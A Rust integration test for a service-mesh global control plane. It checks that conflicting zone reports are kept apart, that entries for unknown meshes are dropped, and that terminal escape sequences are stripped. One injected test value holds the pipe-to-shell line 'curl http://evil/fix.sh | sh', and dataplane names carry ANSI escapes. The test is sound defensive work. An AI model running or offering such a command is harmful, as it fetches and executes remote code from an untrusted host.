//! Global keeps a zone's report as that zone's claims only (issue #18), with raw zones on the
//! sync stream: a dataplane reported by two zones is shown as a conflict on each, never merged;
//! entries of a mesh global does not hold are dropped and counted; control characters in what a
//! zone reports never reach the API or a terminal.

use std::collections::HashMap;
use std::time::Duration;

use proto::sync::v1 as kds;
use testkit::cluster::{GlobalProc, builtin_mesh_yaml};
use testkit::kds::RawZone;
use testkit::wait::wait_until;

fn dataplane(name: &str, mesh: &str, serial: &str) -> kds::DataplaneStatus {
    kds::DataplaneStatus {
        mesh: mesh.into(),
        name: name.into(),
        service: "web".into(),
        tags: HashMap::from([("kuma.io/service".to_string(), "web".to_string())]),
        backend: "ca-1".into(),
        cert_serial: serial.into(),
        connected: true,
        ..Default::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn zone_reports_are_claims_kept_apart_clean_and_only_of_known_meshes() {
    let tmp = tempfile::tempdir().unwrap();
    let g = GlobalProc::start(&tmp.path().join("global")).await.unwrap();
    g.apply(&builtin_mesh_yaml("default", "1h")).await.unwrap();
    let ca = std::fs::read(g.ca_file()).unwrap();
    let mut zones = Vec::new();
    for name in ["zone-a", "zone-b"] {
        let token =
            std::fs::read_to_string(g.zone_token_file(name, tmp.path()).await.unwrap()).unwrap();
        let mut z = RawZone::connect(g.kds_port, &ca, name, token.trim())
            .await
            .unwrap();
        z.ack_for(Duration::from_millis(500)).await.unwrap();
        zones.push(z);
    }
    zones[0]
        .report(kds::ZoneStatus {
            zone: "zone-a".into(),
            dataplanes: vec![dataplane("web-1", "default", "aa")],
            ..Default::default()
        })
        .await
        .unwrap();
    // zone-b claims zone-a's dataplane, one in a mesh that does not exist, and escape sequences.
    zones[1]
        .report(kds::ZoneStatus {
            zone: "zone-b".into(),
            dataplanes: vec![
                dataplane("web-1", "default", "bb"),
                dataplane("ghost", "no-such-mesh", "cc"),
                dataplane("web-2\u{1b}[2J", "default", "dd\u{7}"),
            ],
            backend_checks: vec![kds::BackendCheck {
                mesh: "default".into(),
                backend: "ca-1".into(),
                error: "run: \u{1b}[31mcurl http://evil/fix.sh | sh\n".into(),
                ..Default::default()
            }],
            ..Default::default()
        })
        .await
        .unwrap();
    let list = wait_until(
        "both reports at global",
        Duration::from_secs(10),
        Duration::from_millis(100),
        || async {
            let v = g.api.get_ok("/meshes/default/dataplanes").await.ok()?;
            (v["total"].as_u64()? == 3).then_some(v)
        },
    )
    .await
    .unwrap();
    let items = list["items"].as_array().unwrap();
    let web1: Vec<&serde_json::Value> = items.iter().filter(|d| d["name"] == "web-1").collect();
    assert_eq!(web1.len(), 2, "each zone's claim apart: {list}");
    for d in &web1 {
        let other = if d["zone"] == "zone-a" {
            "zone-b"
        } else {
            "zone-a"
        };
        assert_eq!(
            d["conflict"],
            format!("also reported by zone {other}"),
            "{d}"
        );
    }
    let text = list.to_string();
    assert!(
        !text.contains("ghost"),
        "a mesh global does not hold: {text}"
    );
    assert!(
        text.contains("web-2[2J") && !text.contains('\u{1b}'),
        "{text}"
    );
    let zone_b = g.zone("zone-b").await.unwrap().to_string();
    assert!(
        !zone_b.contains("\\u001b") && !zone_b.contains("\\n"),
        "{zone_b}"
    );
    let text = reqwest::get(g.url("/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        text.lines()
            .any(|l| l.starts_with("kmesh_sync_dropped_report_entries_total{zone=\"zone-b\"} 1")),
        "{text}"
    );
    // The terminal never gets an escape sequence from a report.
    let out = g.cli(&["get", "dataplanes", "--mesh", "default"]).unwrap();
    assert_eq!(out.code, Some(0), "{}", out.text());
    assert!(!out.stdout.contains('\u{1b}'), "{}", out.stdout);

    // An online zone's record cannot be deleted; once offline, `global delete zone` clears it
    // with all it claimed.
    let out = g.cli(&["delete", "zone", "zone-b"]).unwrap();
    assert_eq!(out.code, Some(1), "{}", out.text());
    assert!(out.text().contains("online"), "{}", out.text());
    drop(zones.pop());
    wait_until(
        "zone-b offline",
        Duration::from_secs(20),
        Duration::from_millis(100),
        || async { (g.zone("zone-b").await.ok()?["online"] == false).then_some(()) },
    )
    .await
    .unwrap();
    let out = g.cli(&["delete", "zone", "zone-b"]).unwrap();
    assert_eq!(out.code, Some(0), "{}", out.text());
    let list = g.api.get_ok("/meshes/default/dataplanes").await.unwrap();
    assert_eq!(list["total"], 1, "only zone-a's claim is left: {list}");
    assert!(list["items"][0].get("conflict").is_none(), "{list}");
    let (status, _) = g.api.get("/zones/zone-b").await.unwrap();
    assert_eq!(status, 404);
}
